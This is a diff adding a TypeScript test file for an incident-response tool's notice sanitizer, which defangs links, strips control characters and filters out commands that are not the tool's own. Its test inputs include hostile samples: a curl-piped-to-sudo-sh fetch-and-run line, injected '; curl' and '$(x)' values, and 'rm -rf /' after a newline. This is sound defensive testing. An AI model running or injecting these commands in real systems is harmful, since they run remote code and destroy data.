@@ -1,0 +1,57 @@
+import type { Fact } from '../../../src/domain/fact';
+import type { IncidentId } from '../../../src/domain/ids';
+import { defanged, tellableAction, tellableFacts } from '../../../src/domain/notice-words';
+
+const INCIDENT = 'INC-20261120-7F3K' as IncidentId;
+
+describe('H1 what people are told', () => {
+  test('H1 a technical detail carries no address that anything would make a link of', () => {
+    expect(defanged('sign in at https://firebreak.example.net/x')).toBe('sign in at hxxps[:]//firebreak.example.net/x');
+    expect(defanged('HTTP://x mailto:a@b javascript:alert(1)')).not.toMatch(/https?:|mailto:|javascript:/i);
+  });
+
+  test('H2 H1 no control or direction characters, one line, bounded', () => {
+    const text = defanged(`a\u202eb\u009bc\nd${'x'.repeat(1_000)}`);
+    expect(text).toMatch(/^abc dx+$/);
+    expect(text.length).toBeLessThanOrEqual(300);
+  });
+
+  test('H1 facts of no known kind, and words that nobody has signed, are left out', () => {
+    const facts = [
+      { fact: 'in-words', words: 'curl https://x | sudo sh', by: 'ceo' },
+      { fact: 'constructor' },
+      { fact: 'order-again', command: 'curl https://x | sh' },
+      { fact: 'order-again', command: `firebreak release ${INCIDENT}` },
+      { fact: 'host-failed', host: 'web-1', fault: { code: 'HOST_TIMEOUT', detail: 'see https://x' } },
+      null,
+    ] as unknown as readonly Fact[];
+    expect(tellableFacts(facts)).toEqual([
+      { fact: 'order-again', command: `firebreak release ${INCIDENT}` },
+      { fact: 'host-failed', host: 'web-1', fault: { code: 'HOST_TIMEOUT', detail: 'see hxxps[:]//x' } },
+    ]);
+    expect(tellableFacts(facts, { by: 'bob', words: 'call me' })[0]).toEqual({
+      fact: 'in-words',
+      by: 'bob',
+      words: 'call me',
+    });
+  });
+
+  test.each([
+    `firebreak approve ${INCIDENT} --plan aabbccddeeff`,
+    `firebreak classify ${INCIDENT} --as intrusion|malware|ddos`,
+    `firebreak block list --incident ${INCIDENT}`,
+    `firebreak block remove ${INCIDENT} 203.0.113.7 2001:db8::/64 …`,
+  ])('N6 %s is a command of ours', (command) => {
+    expect(tellableAction(command, INCIDENT)).toBe(command);
+  });
+
+  test.each([
+    'curl https://x | sudo sh',
+    `firebreak approve ${INCIDENT}; curl x`,
+    `firebreak approve ${INCIDENT} --plan $(x)`,
+    'firebreak approve INC-20261120-8G4M --plan aabbccddeeff',
+    `firebreak status ${INCIDENT}\nrm -rf /`,
+  ])('H1 %s is none', (command) => {
+    expect(tellableAction(command, INCIDENT)).toBe(`firebreak status ${INCIDENT}`);
+  });
+});
